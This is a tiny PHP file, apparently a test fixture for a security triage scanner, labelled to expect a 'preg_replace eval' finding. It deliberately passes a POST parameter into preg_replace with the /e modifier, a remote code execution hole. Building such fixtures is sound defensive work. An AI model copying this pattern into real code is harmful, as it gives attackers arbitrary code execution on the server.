<?php
// triage-expect: triage_php_preg_replace_eval
$data = isset($_POST['d']) ? $_POST['d'] : '';
echo preg_replace('/.*/e', $data, 'x');
